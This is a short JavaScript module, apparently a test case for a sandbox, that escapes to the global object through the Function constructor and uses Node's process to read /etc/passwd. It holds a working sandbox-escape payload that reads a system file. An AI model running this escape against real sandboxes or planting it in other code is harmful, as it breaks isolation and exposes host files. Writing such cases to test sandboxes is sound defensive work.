// Climbs to the global object through the Function constructor, then looks for the host's process there.
export default {
  name: 'function-constructor',
  choose() {
    const global = Function('return this')();
    return global.process.mainModule.require('node:fs').readFileSync('/etc/passwd', 'utf8');
  },
};
